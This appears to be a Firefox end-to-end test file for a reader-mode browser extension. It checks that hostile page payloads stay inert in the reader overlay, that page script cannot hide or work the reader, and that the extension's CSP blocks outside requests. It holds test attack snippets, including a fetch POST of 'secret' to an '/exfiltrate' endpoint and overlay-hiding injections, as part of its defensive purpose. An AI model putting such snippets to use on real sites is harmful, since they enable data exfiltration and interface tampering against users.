/**
 * Hostile pages in real Firefox ESR (dist/firefox-e2e, puppeteer-core over WebDriver BiDi), the same
 * threats as hostile.spec.ts in Chromium (issue #8), where Firefox differs: its content scripts see
 * page objects through Xray wrappers, it has no adoptedStyleSheets from content scripts (the overlay
 * takes a <style> fallback), and it runs the background as an event page. What must hold:
 * - each payload of test/fixtures/hostile/payloads.ts is LIVE on the raw page (control) and INERT in
 *   the reader: no `__pwned_*` flag set again after the reader opened, nothing in the overlay that
 *   could run, no request to the payloads' beacon URLs;
 * - page script cannot press the reader's controls (.click(), a dispatched change), close it with a
 *   synthetic Escape or a forged takeover event, or take it off the screen after it opened;
 * - nor cover it with its own popover or modal dialog: the reader stays on top and gets the user's click;
 * - the library and options pages connect to no other origin (their CSP).
 * (Firefox has no triggerAction: the toolbar click goes through the e2e build's hook.)
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'puppeteer-core';
import {
  OVERLAY_TAG,
  isOverlayOpen,
  launchFirefox,
  overlayEval,
  quietFor,
  waitForOverlay,
  waitUntil,
  type FirefoxSession,
} from './harness.js';
import {
  IDS,
  clearFlags,
  coverAttacksKeepReaderOnTop,
  flags,
  liveScriptInOverlay,
  serveHostileSite,
  type HostileSite,
} from './hostile-checks.js';

let firefox: FirefoxSession;
let site: HostileSite;
let origin: string;
let requests: string[];

beforeAll(async () => {
  site = await serveHostileSite();
  ({ origin, requests } = site);
  firefox = await launchFirefox();
});

afterAll(async () => {
  await firefox?.close();
  await site?.close();
});

const opened: Page[] = [];
afterEach(async () => {
  await Promise.all(opened.splice(0).map((p) => p.close().catch(() => {})));
});

async function open(p: string): Promise<Page> {
  const page = await firefox.browser.newPage();
  opened.push(page);
  await page.setViewport({ width: 1280, height: 900 });
  await page.goto(origin + p, { waitUntil: 'load' });
  return page;
}

async function until(f: () => Promise<boolean>, timeoutMs = 3000): Promise<boolean> {
  return waitUntil(() => f().catch(() => false), 'the reader back on screen', timeoutMs, 50).catch(() => false);
}

describe('hostile pages in Firefox ESR', () => {
  it('each payload runs on the page itself (control) and never through the reader', async () => {
    const page = await open('/news/2024/05/01/council-budget.html');
    const atLoad = ['script', 'img_onerror', 'svg_onload', 'details_ontoggle', 'iframe_srcdoc'];
    // Control: the payloads fire on the page itself (iframes, toggle events fire after load).
    await waitUntil(
      async () => {
        const f = await flags(page);
        return atLoad.every((id) => f.includes(id));
      },
      `the load-time payloads to fire on the raw page (${atLoad.join(', ')})`,
    ).catch(() => {});
    await page.evaluate(() => {
      for (const a of Array.from(document.querySelectorAll('a')))
        if (/^\W*j/i.test(a.getAttribute('href') ?? '') || /javascript/i.test(a.href)) a.click();
    });
    // (Which clicked javascript: links fire differs by Firefox version; only logged.)
    await quietFor(300, 'the clicked javascript: links that are live in this Firefox fire by now (for the log only)');
    const control = await flags(page);
    console.log(`payloads live on the raw page in Firefox: ${control.length}/${IDS.length}: ${control.join(', ')}`);
    for (const id of atLoad) {
      expect(control, `${id} should be live on the raw page`).toContain(id);
    }

    await clearFlags(page);
    const before = requests.length;
    await firefox.clickAction(page);
    expect(await overlayEval(page, (root) => root.querySelector('.article-body')?.textContent ?? '')).toMatch(
      /Paragraph [1-5]: the city council/,
    );
    expect(await liveScriptInOverlay(page)).toEqual([]);
    await quietFor(
      800,
      'a payload that got into the overlay would fire (onerror, onload, ontoggle, iframe load) by now',
    );
    expect(await flags(page)).toEqual([]);
    expect(requests.slice(before).filter((u) => u.startsWith('/evil/'))).toEqual([]);
  });

  it("page script cannot work the reader's controls, close it with a synthetic Escape or a forged takeover, or hide it", async () => {
    await firefox.extensionEval('async () => { await browser.storage.sync.remove("readerSettings"); }');
    const page = await open('/news/plain.html');
    await firefox.clickAction(page);
    const pressed = await page.evaluate((tag) => {
      const root = document.documentElement.querySelector(`:scope > ${tag}`)?.shadowRoot;
      const found: string[] = [];
      for (const id of ['save', 'autoclean-always', 'autoclean-never']) {
        const b = root?.querySelector<HTMLButtonElement>(`button[data-action="${id}"]`);
        if (b) {
          b.click();
          found.push(id);
        }
      }
      root?.querySelector<HTMLButtonElement>('button.aa')?.click();
      const dark = root?.querySelector<HTMLInputElement>('input[value="dark"]');
      if (dark) {
        dark.click();
        dark.checked = true;
        dark.dispatchEvent(new Event('change', { bubbles: true }));
        found.push('theme');
      }
      const close = root?.querySelector<HTMLButtonElement>('button.close');
      if (close) {
        close.click();
        found.push('close');
      }
      document.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true, composed: true }));
      document.dispatchEvent(new CustomEvent('dateline-reader:takeover'));
      return found;
    }, OVERLAY_TAG);
    expect(pressed).toEqual(['save', 'autoclean-always', 'autoclean-never', 'theme', 'close']);
    await quietFor(
      1000,
      'a scripted press that worked would have closed the reader, saved, or stored a setting by now',
    );
    expect(await isOverlayOpen(page)).toBe(true);
    expect(
      await overlayEval(page, (root) => ({
        theme: (root.querySelector('.reader') as HTMLElement).dataset.theme,
        status: root.querySelector('.status')?.textContent ?? '',
      })),
    ).toEqual({ theme: 'auto', status: '' });
    const state = await firefox.extensionEval<{ settings: unknown; autoclean: string }>(`async () => ({
      settings: (await browser.storage.sync.get('readerSettings')).readerSettings ?? null,
      autoclean: JSON.stringify((await browser.storage.local.get('autoclean')).autoclean ?? {}),
    })`);
    expect(state.settings).toBeNull();
    expect(state.autoclean).not.toContain('127.0.0.1');

    // Taking it off the screen after it opened: each is undone without a click.
    const visible = (): Promise<boolean> =>
      overlayEval(
        page,
        (root, host) =>
          host.isConnected &&
          host.checkVisibility({ opacityProperty: true, visibilityProperty: true }) &&
          getComputedStyle(document.documentElement).display !== 'none' &&
          (root.querySelector('.article-body')?.getBoundingClientRect().height ?? 0) > 100,
      ).catch(() => false);
    const attacks: [string, string][] = [
      [
        'a stylesheet hiding <html>',
        `(() => { const s = document.createElement('style'); s.textContent = 'html { display: none !important; }'; document.body.append(s); })()`,
      ],
      [
        'the host restyled inline',
        `document.documentElement.querySelector(':scope > ${OVERLAY_TAG}').style.setProperty('display', 'none', 'important')`,
      ],
      ['the host removed', `document.documentElement.querySelector(':scope > ${OVERLAY_TAG}').remove()`],
    ];
    for (const [name, attack] of attacks) {
      await page.evaluate(attack);
      expect(await until(visible), name).toBe(true);
    }
    // The user's own Escape (real BiDi input) still closes it.
    await page.keyboard.press('Escape');
    expect(await waitForOverlay(page, false)).toBe(true);
  });

  it('the page cannot cover the reader with a popover or modal dialog: it stays on top, gets the click', async () => {
    const page = await open('/news/plain.html');
    await firefox.clickAction(page);
    expect(await waitForOverlay(page)).toBe(true);
    await coverAttacksKeepReaderOnTop(page, () => {
      const known = new Set(firefox.browser.targets());
      // (Over BiDi a moz-extension tab's target keeps the URL about:blank: the page itself is asked below.)
      const library = firefox.browser.waitForTarget((t) => !known.has(t) && t.type() === 'page', { timeout: 15_000 });
      return async () => {
        const lib = (await (await library).page())!;
        opened.push(lib);
        const titles = (): Promise<string[] | null> =>
          lib
            .evaluate(
              (want) =>
                location.href === want && document.body?.dataset.state === 'ready'
                  ? Array.from(document.querySelectorAll('#list li .title'), (e) => (e.textContent ?? '').trim())
                  : null,
              firefox.extensionBase + 'library.html',
            )
            .catch(() => null);
        await expect.poll(titles, { timeout: 15_000 }).toContain('Plain story about the harbour');
        await lib.close();
        expect(
          await firefox.extensionEval<string[]>('async () => (await browser.tabs.query({})).map((t) => t.url ?? "")'),
        ).not.toContain(firefox.extensionBase + 'library.html');
      };
    });
  });

  for (const file of ['library.html', 'options.html']) {
    it(`${file}: a fetch() or XHR to another origin is refused by the CSP; data: images still show`, async () => {
      const ext = await firefox.browser.newPage();
      opened.push(ext);
      // page.goto('moz-extension://…') loads but never resolves (browser-testing.md): poll instead.
      void ext.goto(firefox.extensionBase + file).catch(() => {});
      expect(
        await until(
          () => ext.evaluate(() => location.protocol === 'moz-extension:' && document.readyState === 'complete'),
          10_000,
        ),
      ).toBe(true);
      const before = requests.length;
      const result = await ext.evaluate(async (o) => {
        const fetched = await fetch(`${o}/exfiltrate?fetch`, { method: 'POST', body: 'secret' }).then(
          () => 'sent',
          (e: Error) => `refused: ${e.name}`,
        );
        const xhr = await new Promise<string>((resolve) => {
          const x = new XMLHttpRequest();
          x.onload = () => resolve('sent');
          x.onerror = () => resolve('refused');
          try {
            x.open('GET', `${o}/exfiltrate?xhr`);
            x.send();
          } catch {
            resolve('refused');
          }
        });
        const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
        const data = await new Promise<number>((resolve) => {
          const img = new Image();
          img.onload = () => resolve(img.naturalWidth);
          img.onerror = () => resolve(0);
          img.src = `data:image/png;base64,${png}`;
        });
        return { fetched, xhr, data };
      }, origin);
      expect(result).toEqual({ fetched: 'refused: TypeError', xhr: 'refused', data: 1 });
      expect(requests.slice(before).filter((u) => u.startsWith('/exfiltrate'))).toEqual([]);
    });
  }
});
